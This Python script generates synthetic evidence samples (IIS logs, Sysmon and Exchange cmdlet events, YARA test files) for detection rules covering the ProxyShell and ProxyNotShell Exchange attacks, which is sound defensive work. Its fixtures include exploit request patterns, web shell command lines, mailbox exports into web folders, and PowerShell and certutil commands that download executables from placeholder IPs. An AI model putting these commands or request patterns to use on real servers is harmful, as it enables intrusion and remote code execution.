"""Writes the evidence samples of the ProxyShell and ProxyNotShell advisories (drafts/evidence/<advisory>/).

Every sample is synthetic: documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 10.0.0.0/8),
example domains, harmless file contents. The formats are the real ones: IIS W3C logs with their header, and
Winlogbeat JSON lines for the MSExchange Management and Sysmon channels. The DER samples are certificate
requests made with openssl, so those files differ byte for byte each time this script runs; commit its output.
Run from the repository root: python3 drafts/evidence/make_samples.py
"""

from __future__ import annotations

import json
import subprocess
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent
PS = ROOT / "exchange-proxyshell-2021-08"
PNS = ROOT / "exchange-proxynotshell-2022-09"
HOST = "EXCH01.corp.example.com"
W3C_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "sc-status sc-substatus sc-win32-status time-taken"
)
CAFE = "&CorrelationID=<empty>;&cafeReqId={};"
EXBIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"


def iis(path: Path, day: str, lines: list[str]) -> None:
    head = [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Version: 1.0",
        f"#Date: {day} 00:00:04",
        f"#Fields: {W3C_FIELDS}",
    ]
    path.parent.mkdir(parents=True, exist_ok=True)
    ordered = sorted(lines, key=lambda line: line.split(" ", 2)[:2])  # IIS writes in time order
    path.write_text("\r\n".join(head + ordered) + "\r\n", encoding="utf-8", newline="")


def jsonl(path: Path, events: list[dict]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in events), encoding="utf-8")


def cmdlet(ts: str, record: int, name: str, params: str, ok: bool = True) -> dict:
    """One MSExchange Management event (provider MSExchange CmdletLogs) as Winlogbeat writes it."""
    state = "succeeded" if ok else "failed"
    return {
        "@timestamp": ts,
        "event": {"code": "1" if ok else "6", "kind": "event", "provider": "MSExchange CmdletLogs", "module": "windows"},
        "host": {"name": HOST},
        "winlog": {
            "channel": "MSExchange Management",
            "provider_name": "MSExchange CmdletLogs",
            "event_id": 1 if ok else 6,
            "computer_name": HOST,
            "record_id": record,
            "task": "1",
            "keywords": ["Classic"],
            "event_data": {
                "param1": name,
                "param2": params,
                "param3": "corp.example.com/Users/Administrator",
                "param4": "S-1-5-21-1004336348-1177238915-682003330-500",
                "param5": "S-1-5-21-1004336348-1177238915-682003330-500",
                "param6": "ServerRemoteHost",
                "param7": "",
                "param8": "6780",
                "param9": "MSExchangePowerShellAppPool",
            },
        },
        "message": f"Cmdlet {state}. Cmdlet {name}, parameters {params}.",
    }


def sysmon(ts: str, record: int, event_id: int, data: dict, message: str) -> dict:
    action = {1: "Process Create (rule: ProcessCreate)", 11: "File created (rule: FileCreate)"}[event_id]
    return {
        "@timestamp": ts,
        "event": {"code": str(event_id), "kind": "event", "provider": "Microsoft-Windows-Sysmon", "action": action},
        "host": {"name": HOST},
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "provider_name": "Microsoft-Windows-Sysmon",
            "event_id": event_id,
            "computer_name": HOST,
            "record_id": record,
            "event_data": data,
        },
        "message": message,
    }


def file_event(ts: str, record: int, image: str, target: str, pid: str = "5912") -> dict:
    data = {
        "RuleName": "-",
        "UtcTime": ts.replace("T", " ").rstrip("Z"),
        "ProcessGuid": "{5b7c1f0e-3a2d-6123-2c01-000000001f00}",
        "ProcessId": pid,
        "Image": image,
        "TargetFilename": target,
        "CreationUtcTime": ts.replace("T", " ").rstrip("Z"),
        "User": "NT AUTHORITY\\SYSTEM",
    }
    return sysmon(ts, record, 11, data, f"File created:\nImage: {image}\nTargetFilename: {target}")


def process(ts: str, record: int, image: str, cmd: str, parent: str, parent_cmd: str, original: str) -> dict:
    data = {
        "RuleName": "-",
        "UtcTime": ts.replace("T", " ").rstrip("Z"),
        "ProcessGuid": "{5b7c1f0e-4b1e-6123-3d02-000000002000}",
        "ProcessId": "7344",
        "Image": image,
        "OriginalFileName": original,
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": "NT AUTHORITY\\SYSTEM",
        "LogonId": "0x3e7",
        "IntegrityLevel": "System",
        "ParentProcessGuid": "{5b7c1f0e-2c0a-6123-1a01-000000001e00}",
        "ParentProcessId": "4312",
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd,
        "ParentUser": "NT AUTHORITY\\SYSTEM",
    }
    return sysmon(ts, record, 1, data, f"Process Create:\nImage: {image}\nCommandLine: {cmd}\nParentImage: {parent}")


W3WP_PS = f'{W3WP} -ap "MSExchangePowerShellFrontEndAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm3e9f0c2d -h "C:\\inetpub\\temp\\apppools\\MSExchangePowerShellFrontEndAppPool\\MSExchangePowerShellFrontEndAppPool.config" -w "" -m 0'
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTAlpb2NjLXRlc3Q="  # base64 dummy token; decodes to a test marker
PY_UA = "python-requests/2.26.0"
OUTLOOK_UA = "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.14326;+Pro)"
WINRM_UA = "Microsoft+WinRM+Client"


def proxyshell() -> None:
    d = "2021-08-20"
    atk = "203.0.113.45"
    ps_q = f"@mail.example.org/powershell/?X-Rps-CAT={RPS_CAT}&Email=autodiscover/autodiscover.json%3F@mail.example.org"
    ps_q_plain = f"@mail.example.org/powershell/?X-Rps-CAT={RPS_CAT}"
    nspi_q = "@mail.example.org/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@mail.example.org"
    ews_q = "@mail.example.org/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@mail.example.org"
    email_q = "@foo.example/?&Email=autodiscover/autodiscover.json%3f@foo.example"
    ad = "/autodiscover/autodiscover.json"
    legit_stem = "/autodiscover/autodiscover.json/v1.0/jane.doe@example.com"
    legit_q = "Protocol=EWS&RedirectCount=1" + CAFE.format("9c1d2e3f-4a5b-4c6d-8e7f-0a1b2c3d4e5f")

    def line(t: str, m: str, stem: str, q: str, user: str, ip: str, ua: str, st: str, tt: str, cafe: str = "") -> str:
        return f"{d} {t} 10.0.0.25 {m} {stem} {q}{cafe} 443 {user} {ip} {ua} - {st} 0 0 {tt}"

    c1 = CAFE.format("2a9f6c1e-8d44-4b7a-9e0c-1f3b5d7a9c21")
    refused = [
        line("02:11:47", "GET", ad, ps_q, "-", atk, PY_UA, "401", "15", c1),
        line("02:11:48", "GET", ad, nspi_q, "-", atk, PY_UA, "401", "12", c1),
        line("02:11:52", "GET", ad, email_q, "-", "198.51.100.200", "Mozilla/5.0+zgrab/0.x", "401", "9"),
    ]
    success = [
        line("03:02:10", "POST", ad, ps_q, "-", atk, PY_UA, "200", "412", c1),
        line("03:02:11", "POST", ad, ps_q_plain, "-", atk, PY_UA, "200", "388", c1),
        line("03:01:58", "GET", ad, nspi_q, "-", atk, PY_UA, "302", "31", c1),
        line("03:02:01", "POST", ad, ews_q, "-", atk, PY_UA, "200", "97", c1),
    ]
    legit_401 = line("07:45:03", "GET", legit_stem, legit_q, "-", "198.51.100.23", OUTLOOK_UA, "401", "4")
    legit_200 = line("07:45:04", "GET", legit_stem, legit_q, "jane.doe@example.com", "198.51.100.23", OUTLOOK_UA, "200", "46")
    admin_ps = (
        f"{d} 08:12:30 10.0.0.25 POST /powershell clientApplication=ManagementShell;PSVersion=5.1.17763.1852 "
        f"80 CORP\\exadmin 10.0.0.30 {WINRM_UA} - 200 0 0 61"
    )
    base = PS / "sigma"
    iis(base / "iis-proxyshell-autodiscover-refused" / "match.log", d, refused)
    iis(base / "iis-proxyshell-autodiscover-refused" / "no-match.log", d, [success[0], legit_401])
    iis(base / "iis-proxyshell-autodiscover-success" / "match.log", d, success)
    iis(base / "iis-proxyshell-autodiscover-success" / "no-match.log", d, [refused[0], legit_200, admin_ps])

    ts = "2021-08-20T03:0{}:{}Z"
    shell = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\3bd8f2a1.aspx"
    owa_shell = "\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\VOLWMFQWPP.aspx"
    m = PS / "sigma"
    jsonl(m / "msexchange-mailbox-export-into-web-path" / "match.jsonl", [
        cmdlet(ts.format(3, "04.118"), 90112, "New-MailboxExportRequest",
               f'-Mailbox "administrator@example.com" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'invoice\'" -ExcludeDumpster "True" -FilePath "{shell}"'),
        cmdlet(ts.format(3, "09.502"), 90115, "New-MailboxExportRequest",
               f'-Mailbox "jane.doe@example.com" -FilePath "{owa_shell}"'),
    ])
    jsonl(m / "msexchange-mailbox-export-into-web-path" / "no-match.jsonl", [
        cmdlet("2021-08-16T14:20:31.004Z", 88710, "New-MailboxExportRequest",
               '-Mailbox "leaver@example.com" -FilePath "\\\\fs01.corp.example.com\\PST$\\leaver-2021-08.pst"'),
        cmdlet("2021-08-16T14:25:02.761Z", 88713, "Get-MailboxExportRequest", '-Mailbox "leaver@example.com"'),
    ])
    jsonl(m / "msexchange-mailbox-import-export-role-assigned" / "match.jsonl", [
        cmdlet(ts.format(3, "02.877"), 90110, "New-ManagementRoleAssignment",
               '-Role "Mailbox Import Export" -User "administrator@example.com"'),
    ])
    jsonl(m / "msexchange-mailbox-import-export-role-assigned" / "no-match.jsonl", [
        cmdlet("2021-08-12T09:02:45.120Z", 87001, "New-ManagementRoleAssignment",
               '-Role "Mail Recipients" -User "helpdesk01@example.com"'),
        cmdlet("2021-08-12T09:03:10.442Z", 87002, "New-ManagementRoleAssignment",
               '-Role "Mailbox Import Export" -SecurityGroup "Organization Management"'),
    ])
    jsonl(m / "msexchange-export-request-removed-silently" / "match.jsonl", [
        cmdlet(ts.format(3, "40.015"), 90131, "Remove-MailboxExportRequest",
               '-Identity "example.com/Users/Administrator\\MailboxExport" -Confirm "False"'),
    ])
    jsonl(m / "msexchange-export-request-removed-silently" / "no-match.jsonl", [
        cmdlet("2021-08-17T10:11:12.345Z", 88902, "Remove-MailboxExportRequest",
               '-Identity "example.com/Users/leaver\\MailboxExport"'),
        cmdlet("2021-08-17T10:11:40.001Z", 88903, "Remove-MoveRequest", '-Identity "jane.doe@example.com" -Confirm "False"'),
    ])
    csr = "\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\srpn.aspx"
    jsonl(m / "msexchange-certificate-request-into-web-path" / "match.jsonl", [
        cmdlet("2021-08-23T11:32:07.909Z", 91840, "New-ExchangeCertificate",
               f'-GenerateRequest "True" -BinaryEncoded "True" -RequestFile "{csr}" -SubjectName "CN=iocc-sample" -PrivateKeyExportable "True"'),
    ])
    jsonl(m / "msexchange-certificate-request-into-web-path" / "no-match.jsonl", [
        cmdlet("2021-08-02T13:00:55.218Z", 86011, "New-ExchangeCertificate",
               '-GenerateRequest "True" -BinaryEncoded "True" -RequestFile "C:\\Users\\exadmin\\Desktop\\mail-2021.req" -SubjectName "CN=mail.example.com" -DomainName "mail.example.com","autodiscover.example.com"'),
    ])
    mrs = EXBIN + "MSExchangeMailboxReplication.exe"
    jsonl(m / "file-mailboxreplication-writes-script-page" / "match.jsonl", [
        file_event("2021-08-20T03:03:31.227Z", 512201, mrs, "C:\\inetpub\\wwwroot\\aspnet_client\\3bd8f2a1.aspx"),
        file_event("2021-08-20T03:03:52.880Z", 512230, mrs, "C:\\ProgramData\\COM1\\dc5fe8a0.aspx"),
    ])
    jsonl(m / "file-mailboxreplication-writes-script-page" / "no-match.jsonl", [
        file_event("2021-08-16T14:21:10.003Z", 498801, mrs, "D:\\Exports\\leaver-2021-08.pst"),
        file_event("2021-08-16T14:21:10.511Z", 498802, mrs, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\MailboxReplicationService\\MRS_20210816.log"),
    ])
    jsonl(m / "file-created-in-reserved-name-folders" / "match.jsonl", [
        file_event("2021-08-20T03:04:02.110Z", 512240, mrs, "C:\\ProgramData\\COM1\\dc5fe8a0.aspx"),
        file_event("2021-08-20T03:06:19.401Z", 512277, W3WP, "C:\\Users\\All Users\\ZING\\x1.aspx", pid="6780"),
        file_event("2021-08-20T03:06:44.902Z", 512281, W3WP, "C:\\ProgramData\\WHO\\tmp.dat", pid="6780"),
    ])
    jsonl(m / "file-created-in-reserved-name-folders" / "no-match.jsonl", [
        file_event("2021-08-20T09:12:00.000Z", 513001, "C:\\Program Files\\COMODO\\COMODO Internet Security\\cmdagent.exe",
                   "C:\\ProgramData\\COMODO\\CIS\\cislog.dat", pid="2100"),
        file_event("2021-08-20T09:13:30.000Z", 513010, "C:\\Windows\\System32\\svchost.exe",
                   "C:\\ProgramData\\Microsoft\\Network\\Downloader\\qmgr.db", pid="1460"),
    ])
    ping = "C:\\Windows\\System32\\PING.EXE"
    cmd_parent = f'{CMD} /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&ping -n 1 themoscowtimes.com"'
    jsonl(m / "proc-ping-connectivity-check-news-site" / "match.jsonl", [
        process("2021-08-20T03:07:15.300Z", 512300, ping, "ping -n 1 themoscowtimes.com", CMD, cmd_parent, "ping.exe"),
    ])
    jsonl(m / "proc-ping-connectivity-check-news-site" / "no-match.jsonl", [
        process("2021-08-20T09:30:00.100Z", 513400, ping, "ping -n 4 www.example.com", CMD, f"{CMD}", "ping.exe"),
        process("2021-08-20T09:31:10.200Z", 513401, "C:\\Windows\\System32\\nslookup.exe", "nslookup themoscowtimes.com",
                CMD, f"{CMD}", "nslookup.exe"),
    ])
    jsonl(m / "file-lockfile-ransom-note-or-extension" / "match.jsonl", [
        file_event("2021-08-21T01:14:09.020Z", 530001, "C:\\Windows\\Temp\\autoupd.exe",
                   "E:\\Shares\\Finance\\report_q2.xlsx.lockfile", pid="8120"),
        file_event("2021-08-21T01:14:09.991Z", 530002, "C:\\Windows\\Temp\\autoupd.exe",
                   "E:\\Shares\\Finance\\EXAMPLE-LOCKFILE-README.hta", pid="8120"),
    ])
    jsonl(m / "file-lockfile-ransom-note-or-extension" / "no-match.jsonl", [
        file_event("2021-08-21T08:00:00.000Z", 530100, "C:\\Program Files\\Git\\cmd\\git.exe",
                   "C:\\src\\repo\\.git\\index.lock", pid="3300"),
        file_event("2021-08-21T08:00:01.000Z", 530101, "C:\\Windows\\System32\\notepad.exe",
                   "C:\\Users\\jane\\Documents\\lockfile-notes.txt", pid="3310"),
    ])


def proxynotshell() -> None:
    d = "2022-09-29"
    atk = "203.0.113.88"
    ad = "/autodiscover/autodiscover.json"
    ps_params = "serialization-level=Full;ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592"
    q = f"@mail.example.org/Powershell?{ps_params}&Email=autodiscover/autodiscover.json%3F@mail.example.org"
    q40 = f"%40mail.example.org/powershell/?{ps_params}&Email=autodiscover/autodiscover.json%3F%40mail.example.org"
    q_enc = f"@mail.example.org/Power%73hell?{ps_params}&Email=autodiscover/autodiscover.json%3F@mail.example.org"
    c = CAFE.format("7e2b9d41-0c6a-4f3e-b1d8-5a9c0e2f4b66")
    user = "CORP\\jdoe"

    def line(t: str, m: str, stem: str, qq: str, u: str, ip: str, ua: str, st: str, tt: str, cafe: str = "") -> str:
        return f"{d} {t} 10.0.0.25 {m} {stem} {qq}{cafe} 443 {u} {ip} {ua} - {st} 0 0 {tt}"

    hit = [
        line("13:44:09", "POST", ad, q, user, atk, "python-requests/2.28.1", "200", "203", c),
        line("13:44:12", "POST", ad, q40, user, atk, "python-requests/2.28.1", "200", "188", c),
    ]
    miss = [
        line("13:40:01", "POST", ad, q, "-", atk, "python-requests/2.28.1", "401", "6", c),
        line("13:50:22", "GET", "/autodiscover/autodiscover.json/v1.0/jdoe@example.com",
             "Protocol=AutodiscoverV1&RedirectCount=1" + c, user, "198.51.100.23", OUTLOOK_UA, "200", "39"),
    ]
    base = PNS / "sigma"
    iis(base / "iis-proxynotshell-autodiscover-powershell" / "match.log", d, hit)
    iis(base / "iis-proxynotshell-autodiscover-powershell" / "no-match.log", d, miss)
    iis(base / "iis-proxynotshell-autodiscover-powershell" / "known-gap.log", d,
        [line("13:46:30", "POST", ad, q_enc, user, atk, "python-requests/2.28.1", "200", "176", c)])

    d2 = "2022-12-14"
    chrome105 = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/105.0.5195.54+Safari/537.36"

    def line2(t: str, m: str, stem: str, qq: str, u: str, ip: str, ua: str, st: str, tt: str) -> str:
        return f"{d2} {t} 10.0.0.25 {m} {stem} {qq} 443 {u} {ip} {ua} - {st} 0 0 {tt}"

    ow = [
        line2("22:03:11", "POST", "/owa/mastermailbox@outlook.com/powershell", ps_params, user, "203.0.113.91", chrome105, "200", "315"),
        line2("22:04:40", "POST", "/owa/jdoe%40example.com/powershell", ps_params, user, "203.0.113.91", "python-requests/2.28.1", "200", "290"),
    ]
    ow_miss = [
        line2("08:15:02", "POST", "/owa/jdoe@example.com/powershell", ps_params, user, "10.0.0.31", "ClientInfo", "200", "77"),
        line2("08:15:40", "POST", "/owa/healthmailbox01@example.com/powershell", ps_params, "CORP\\HealthMailbox01",
              "10.0.0.25", "Exchange+BackEnd+Probes", "200", "54"),
        line2("08:16:03", "POST", "/owa/service.svc", "action=GetFolder&EP=1&ID=-37&AC=1", user, "198.51.100.23",
              "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/108.0.0.0+Safari/537.36", "200", "21"),
        line2("08:17:15", "POST", "/owa/jdoe@example.com/powershell", ps_params, "-", "203.0.113.91", "python-requests/2.28.1", "401", "5"),
    ]
    iis(base / "iis-owassrf-owa-powershell" / "match.log", d2, ow)
    iis(base / "iis-owassrf-owa-powershell" / "no-match.log", d2, ow_miss)

    fe = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
    jsonl(base / "file-w3wp-writes-script-into-exchange-web-folder" / "match.jsonl", [
        file_event("2022-09-29T13:45:01.334Z", 771201, W3WP, fe + "pxh4HG1v.ashx", pid="6780"),
        file_event("2022-09-29T13:47:19.020Z", 771230, W3WP, "C:\\inetpub\\wwwroot\\aspnet_client\\errorEE.aspx", pid="6780"),
    ])
    jsonl(base / "file-w3wp-writes-script-into-exchange-web-folder" / "no-match.jsonl", [
        file_event("2022-09-29T07:01:12.000Z", 770001, W3WP,
                   "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\3f2a1b0c\\9e8d7c6b\\App_Web_logon.aspx.cdcab7d2.dll", pid="6780"),
        file_event("2022-11-09T20:10:44.000Z", 790001, EXBIN + "ExSetup.exe", fe + "logon.aspx", pid="9904"),
    ])
    chopper = f'{CMD} /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\"&whoami&echo [S]&cd&echo [E]"'
    chopper2 = f'{CMD} /c "cd /d "C:\\Windows\\system32\\inetsrv"&ipconfig&echo [S]&cd&echo [E]"'
    jsonl(base / "proc-w3wp-child-webshell-command-fragments" / "match.jsonl", [
        process("2022-09-29T13:48:02.555Z", 771300, CMD, chopper, W3WP, W3WP_PS, "Cmd.Exe"),
        process("2022-09-29T13:48:09.012Z", 771302, CMD, chopper2, W3WP, W3WP_PS, "Cmd.Exe"),
    ])
    csc = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
    jsonl(base / "proc-w3wp-child-webshell-command-fragments" / "no-match.jsonl", [
        process("2022-09-29T07:01:10.000Z", 770000, csc,
                f'"{csc}" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\3f2a1b0c\\9e8d7c6b\\kpzp1xqe.cmdline"',
                W3WP, W3WP_PS, "csc.exe"),
        process("2022-09-29T09:00:00.000Z", 770500, CMD, f'{CMD} /c "dir C:\\Scripts&echo [S] done"',
                "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "Cmd.Exe"),
    ])
    dl = f'{POWERSHELL} -nop -c "Invoke-WebRequest -Uri http://198.51.100.14:8080/themes.aspx -OutFile C:\\Users\\Public\\all.exe"'
    dl2 = f'{CMD} /c certutil -urlcache -split -f https://198.51.100.15/a.txt C:\\PerfLogs\\cm.exe'
    jsonl(base / "proc-w3wp-shell-with-url" / "match.jsonl", [
        process("2022-09-29T13:52:40.100Z", 771400, POWERSHELL, dl, W3WP, W3WP_PS, "PowerShell.EXE"),
        process("2022-09-29T13:53:05.700Z", 771410, CMD, dl2, W3WP, W3WP_PS, "Cmd.Exe"),
    ])
    jsonl(base / "proc-w3wp-shell-with-url" / "no-match.jsonl", [
        process("2022-09-29T02:00:00.000Z", 760001, CMD, f'{CMD} /c "C:\\Scripts\\rotate-iis-logs.cmd"', W3WP, W3WP_PS, "Cmd.Exe"),
        process("2022-09-29T02:05:00.000Z", 760010, POWERSHELL,
                f'{POWERSHELL} -NoProfile -File C:\\Scripts\\check-cert.ps1 -Url https://mail.example.com',
                "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "PowerShell.EXE"),
    ])


ASPX_MARK = b'<%@ Page Language="C#" %>\r\n<% Response.Write("iocc evidence sample - not a web shell"); %>\r\n'


def pst_header(size: int = 1024) -> bytes:
    # "!BDN" magic, a zero CRC, client magic "SM", Unicode format version 23, client version 19, platforms 1/1
    head = b"!BDN" + b"\x00\x00\x00\x00" + b"SM" + (23).to_bytes(2, "little") + (19).to_bytes(2, "little") + b"\x01\x01"
    return head + b"\x00" * (size - len(head))


def csr(subject: str) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "req.der"
        subprocess.run(
            ["openssl", "req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", str(Path(tmp) / "k.pem"),
             "-subj", subject, "-utf8", "-outform", "DER", "-out", str(out)],
            check=True, capture_output=True,
        )
        return out.read_bytes()


def yara_samples() -> None:
    y = PS / "yara"
    plain = b'<%@ Page Language="C#" %>\r\n<html><body><p>Maintenance page</p></body></html>\r\n'
    files = {
        "aspx-webshell-pst-header/match/pst-header-with-page-directive.aspx": pst_header() + b"\x00" * 64 + ASPX_MARK + b"\x00" * 256,
        "aspx-webshell-pst-header/no-match/pst-header-without-aspx.pst": pst_header() + b"Subject: Quarterly report\r\n" + b"\x00" * 256,
        "aspx-webshell-pst-header/no-match/plain-page.aspx": plain,
        "aspx-webshell-der-header/match/der-request-with-page-directive.aspx": csr('/CN=<%@ Page Language="C#"%>/OU=iocc evidence sample'),
        "aspx-webshell-der-header/no-match/der-request-plain.req": csr("/CN=mail.example.com/O=Example Ltd"),
        "aspx-webshell-der-header/no-match/plain-page.aspx": plain,
    }
    for rel, data in files.items():
        p = y / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)


if __name__ == "__main__":
    proxyshell()
    proxynotshell()
    yara_samples()
